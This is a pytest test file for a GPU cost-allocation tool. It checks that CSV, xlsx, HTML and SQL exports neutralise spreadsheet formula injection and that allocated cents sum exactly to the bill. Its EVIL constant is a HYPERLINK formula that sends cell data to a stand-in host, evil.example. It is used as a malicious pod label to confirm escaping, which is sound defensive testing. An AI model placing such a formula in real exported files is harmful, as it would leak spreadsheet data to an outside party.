"""Files finance opens: spreadsheet-safe CSV (a formula-looking label is
inert), typed .xlsx sheets, and the CLI's outputs in cents that add up to
the bill to the cent (docs/cli.md, docs/semantics.md)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest

import gpucost
from gpucost import cli, money, sheets
from gpucost.demo import demo_fleet

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def fleet():
    f = demo_fleet()
    # A pod label set by anyone who can label a pod.
    f.workloads = f.workloads.copy()
    first = f.workloads["consumer"].iloc[0]
    f.workloads.loc[f.workloads["consumer"] == first, "team"] = EVIL
    return f


def _run(capsys, *argv):
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


def _write_tables(fleet, tmp_path):
    fleet.costs.to_parquet(tmp_path / "costs.parquet")
    fleet.usage.to_parquet(tmp_path / "usage.parquet")
    fleet.inventory.to_csv(tmp_path / "inventory.csv", index=False)
    fleet.workloads.to_csv(tmp_path / "workloads.csv", index=False)
    return ["--costs", str(tmp_path / "costs.parquet"), "--usage", str(tmp_path / "usage.parquet"),
            "--inventory", str(tmp_path / "inventory.csv"), "--workloads", str(tmp_path / "workloads.csv"),
            "--no-progress"]


def test_csv_safe_cells():
    frame = pd.DataFrame({"team": [EVIL, "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok", "-5", "+1.5e3", None],
                          "cost": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, 10.0],
                          "kind": pd.Categorical(["=1+1"] * 10)})
    safe = sheets.csv_safe(frame)
    assert safe["team"].tolist()[:7] == ["'" + EVIL, "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "ok"]
    assert safe["team"].tolist()[7:9] == ["-5", "+1.5e3"] and safe["team"].isna().iloc[9]  # numbers stay numbers
    assert (safe["kind"] == "'=1+1").all()
    assert safe["cost"].tolist() == frame["cost"].tolist()  # a negative number is a number
    assert frame["team"].iloc[0] == EVIL  # the input is left alone
    text = sheets.to_csv_bytes(frame).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 11 and rows[1][:2] == ["'" + EVIL, "-1.5"] and rows[6][0] == "'\rx"
    assert sheets.to_csv_bytes(frame, raw=True).decode().splitlines()[1].startswith('"=HYPERLINK(')
    assert sheets.csv_safe(pd.DataFrame({"=x": [1]})).columns.tolist() == ["'=x"]


def test_allocate_csv_is_inert_and_adds_up_to_the_bill(capsys, tmp_path, fleet):
    args = _write_tables(fleet, tmp_path)
    text = _run(capsys, "allocate", *args, "--by", "team", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    teams = [r["team"] for r in rows]
    assert "'" + EVIL in teams and EVIL not in teams
    assert not any(t[:1] in sheets.FORMULA_PREFIXES for t in teams)
    assert all(len(r["cost"].split(".")[1]) == 2 for r in rows)  # 246.00, not 245.99999999999653
    bill = money.round_half_away(fleet.costs["cost"].sum(), 2)
    assert sum(Decimal(r["cost"]) for r in rows) == Decimal(f"{bill:.2f}")
    raw = _run(capsys, "allocate", *args, "--by", "team", "--format", "csv", "--raw-csv")
    assert EVIL in [r["team"] for r in csv.DictReader(io.StringIO(raw))]
    jpy = _run(capsys, "allocate", *args, "--by", "team", "--format", "csv", "--decimals", "0")
    jpy_rows = list(csv.DictReader(io.StringIO(jpy)))
    assert all("." not in r["cost"] for r in jpy_rows)
    assert sum(int(r["cost"]) for r in jpy_rows) == round(float(fleet.costs["cost"].sum()))


def test_allocate_table_prints_cents_adding_up_to_the_bill(capsys, tmp_path, fleet):
    args = _write_tables(fleet, tmp_path)
    out = _run(capsys, "allocate", *args, "--by", "team", "--format", "table")
    lines = out.splitlines()
    header = lines[0].split()
    assert header[:2] == ["team", "cost"]
    cents = [Decimal(line.split()[1].replace(",", "")) for line in lines[1:-1]]
    total = Decimal(lines[-1].split()[1].replace(",", ""))
    assert lines[-1].split()[0] == "TOTAL"
    assert sum(cents) == total == Decimal(f"{money.round_half_away(fleet.costs['cost'].sum(), 2):.2f}")


def test_xlsx_typed_cells_and_inert_labels(capsys, tmp_path, fleet):
    openpyxl = pytest.importorskip("openpyxl")
    args = _write_tables(fleet, tmp_path)
    path = tmp_path / "showback.xlsx"
    _run(capsys, "allocate", *args, "--by", "team,period", "--freq", "MS", "-o", str(path))
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula anywhere
    wb = openpyxl.load_workbook(path)
    ws = wb["gpucost"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["team", "period", "cost"]
    rows = list(ws.iter_rows(min_row=2))
    evil = [r for r in rows if r[0].value == EVIL]
    assert len(evil) == 1 and evil[0][0].data_type == "s"
    assert isinstance(rows[0][1].value, dt.datetime) and rows[0][1].number_format == "yyyy-mm-dd"
    cost = rows[0][2]
    assert cost.data_type == "n" and cost.number_format == '#,##0.00 "USD";-#,##0.00 "USD"'
    total = sum(Decimal(repr(r[2].value)) for r in rows)
    assert total == Decimal(f"{money.round_half_away(fleet.costs['cost'].sum(), 2):.2f}")


def test_report_tables_as_sheets(capsys, tmp_path, fleet):
    openpyxl = pytest.importorskip("openpyxl")
    args = _write_tables(fleet, tmp_path)
    path = tmp_path / "report.xlsx"
    code = cli.main(["report", *args, "-o", str(tmp_path / "report.html"), "--xlsx", str(path)])
    assert code == 0, capsys.readouterr().err
    wb = openpyxl.load_workbook(path)
    assert "showback_table" in wb.sheetnames and len(wb.sheetnames) >= 3
    ws = wb["showback_table"]
    teams = [r[0].value for r in ws.iter_rows(min_row=2)]
    assert EVIL in teams
    html = (tmp_path / "report.html").read_text()
    # The HTML showback table: its cents add up to its total row.
    import re
    table = html.split('data-key="showback"')[1].split("</table>")[0]
    shown = [Decimal(m.replace(",", "")) for m in re.findall(r'data-col="cost" data-value="[^"]+">\$([\d,.-]+)<',
                                                             table)]
    assert sum(shown[:-1]) == shown[-1] == Decimal(f"{money.round_half_away(fleet.costs['cost'].sum(), 2):.2f}")


def test_sheet_names_are_valid_and_unique():
    names = sheets._sheet_names(["a/b", "x" * 40, "x" * 40, "A/B", ""])
    assert names[0] == "a_b" and len(names[1]) == 31 and names[1] != names[2] and len(names[2]) <= 31
    assert len({n.lower() for n in names}) == len(names)


def test_write_xlsx_mixed_currencies(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    frame = pd.DataFrame({"team": ["a", "b", "c"], "currency": ["JPY", "USD", "BHD"],
                          "cost": [100.4, 1 / 3, 1 / 3], "gpu_hours": [1.0, 2.0, 3.0]})
    path = sheets.write_xlsx({"by team": frame}, tmp_path / "m.xlsx")
    ws = openpyxl.load_workbook(path)["by team"]
    cells = [r[2] for r in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [100, 0.33, 0.333]
    assert [c.number_format.split(" ")[0] for c in cells] == ["#,##0", "#,##0.00", "#,##0.000"]
    with pytest.raises(gpucost.InvalidInputError, match="no table"):
        sheets.write_xlsx({}, tmp_path / "e.xlsx")
    assert np.isfinite(frame["cost"]).all()


def test_sql_rounds_only_when_asked(capsys, tmp_path, fleet):
    pytest.importorskip("sqlalchemy")
    from gpucost.pipeline import read_sink
    args = _write_tables(fleet, tmp_path)
    url = f"sqlite:///{tmp_path / 'gpucost.db'}"
    _run(capsys, "allocate", *args, "--by", "team", "--sql", url, "--table", "raw")
    _run(capsys, "allocate", *args, "--by", "team", "--sql", url, "--table", "booked", "--decimals", "auto")
    raw, booked = read_sink(url, table="raw"), read_sink(url, table="booked")
    assert len(raw) == len(booked) and (raw["cost"] * 100 % 1 != 0).any()  # full floats by default
    start = pd.to_datetime(fleet.costs["start"], utc=True).dt.date
    for day, rows in booked.groupby("day"):  # each day's cents add up to the day's rounded bill
        units = np.rint(rows["cost"].to_numpy() * 100).astype(np.int64)
        np.testing.assert_allclose(rows["cost"] * 100, units, atol=1e-6)
        assert units.sum() == int(round(money.round_half_away(fleet.costs["cost"][start == day].sum(), 2) * 100))
